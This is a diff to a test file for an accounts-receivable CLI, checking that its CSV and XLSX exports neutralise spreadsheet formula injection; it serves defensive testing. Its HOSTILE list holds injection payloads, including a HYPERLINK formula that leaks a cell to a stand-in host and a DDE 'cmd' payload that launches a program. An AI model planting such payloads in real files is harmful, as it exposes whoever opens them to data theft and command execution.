@@ -1,8 +1,7 @@
-import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { arAsync, tempDir, writeFiles } from '../helpers/run.ts';
+import { arInProcess, tempDir, writeFiles } from '../helpers/run.ts';
 import { inspectWorkbook } from '../helpers/sheets.ts';
 
 /**
@@ -11,7 +10,7 @@ import { inspectWorkbook } from '../helpers/sheets.ts';
  * that `ar` writes is read back as a spreadsheet program would read it.
  */
 
-const HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=2+2', '=cmd|\' /C calc\'!A0'] as const;
+const HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=2+2', "=cmd|' /C calc'!A0"] as const;
 const FORMULA_START = /^[=+\-@\t\r]/;
 /** The import trims a cell (a leading tab or CR is gone before any output: `csvField` is tested on them in test/render). */
 const kept = (s: string) => s.trim();
@@ -32,8 +31,7 @@ beforeAll(() => {
   dir = tempDir('ar-formula-');
   writeFiles(dir, { 'factures.csv': INVOICES, 'clients.csv': CUSTOMERS, 'reglements.csv': PAYMENTS });
 });
-const run = (cmd: string, args: string[]) =>
-  arAsync([cmd, 'factures.csv', '--payments', 'reglements.csv', '--customers', 'clients.csv', '--as-of', '2026-10-31', ...args], { cwd: dir });
+const run = (cmd: string, args: string[]) => arInProcess([cmd, 'factures.csv', '--payments', 'reglements.csv', '--customers', 'clients.csv', '--as-of', '2026-10-31', ...args], { cwd: dir });
 
 /** Every text field of a CSV is safe to open in a spreadsheet; the payload is there behind the apostrophe. */
 function expectNeutralCsv(csv: string, textColumns: readonly string[], numberColumns: readonly string[]) {
@@ -73,12 +71,12 @@ describe('formula injection: CSV', () => {
 
   it('ar impact --format csv prefixes a hostile invoice number, and ar dso writes its figures as plain numbers', async () => {
     const ledger = ['--invoices', 'factures.csv', '--payments', 'reglements.csv', '--as-of', '2026-10-31', '--margin', '5%', '--revenue', '100000', '--format', 'csv', '--csv', 'rfc4180'];
-    const impact = await arAsync(['impact', `${HOSTILE[1]}#1`, ...ledger], { cwd: dir });
+    const impact = await arInProcess(['impact', `${HOSTILE[1]}#1`, ...ledger], { cwd: dir });
     expect(impact.code).toBe(0);
     const [row] = expectNeutralCsv(impact.stdout, ['kind', 'bucket', 'currency', 'invoice', 'revenue_source', 'revenue_vat_assumed'], ['unpaid', 'loss', 'revenue', 'margin_after', 'extra_revenue']);
     expect(row!.invoice).toBe(`'${HOSTILE[1]}#1`);
     expect(row!.unpaid).toBe('91.00');
-    const portfolio = await arAsync(['impact', '--portfolio', ...ledger], { cwd: dir });
+    const portfolio = await arInProcess(['impact', '--portfolio', ...ledger], { cwd: dir });
     expectNeutralCsv(portfolio.stdout, ['kind', 'bucket', 'currency'], ['open', 'loss_rate', 'expected_loss', 'loss']);
     const dso = await run('dso', ['--format', 'csv', '--csv', 'rfc4180']);
     expect(dso.code).toBe(0);
@@ -87,7 +85,7 @@ describe('formula injection: CSV', () => {
 
   it('ar log, which has no CSV, refuses --format csv as a usage error rather than write an unprotected one', async () => {
     for (const args of [['log']]) {
-      const r = await arAsync([...args, '--format', 'csv'], { cwd: dir });
+      const r = await arInProcess([...args, '--format', 'csv'], { cwd: dir });
       expect({ args, code: r.code, stdout: r.stdout }).toEqual({ args, code: 1, stdout: '' });
       expect(r.stderr.split('\n')[0]).toMatch(/csv/);
     }
@@ -114,7 +112,7 @@ describe('formula injection: XLSX', () => {
     writeFiles(d, {
       'f.csv': ['Invoice;Customer;Name;Date;Due;Amount', 'F1;C1;"Bad\uFFFEname\uFFFF";2026-08-01;2026-09-01;10.00', 'F2;C2;"a\u0001b\u000bc";2026-08-01;2026-09-01;10.00'].join('\r\n'),
     });
-    const r = await arAsync(['aging', 'f.csv', '--as-of', '2026-10-31', '--xlsx', 'r.xlsx'], { cwd: d });
+    const r = await arInProcess(['aging', 'f.csv', '--as-of', '2026-10-31', '--xlsx', 'r.xlsx'], { cwd: d });
     expect(r.code).toBe(0);
     const { texts } = await inspectWorkbook(join(d, 'r.xlsx'), []);
     expect(texts).toContain('Bad\uFFFDname\uFFFD');
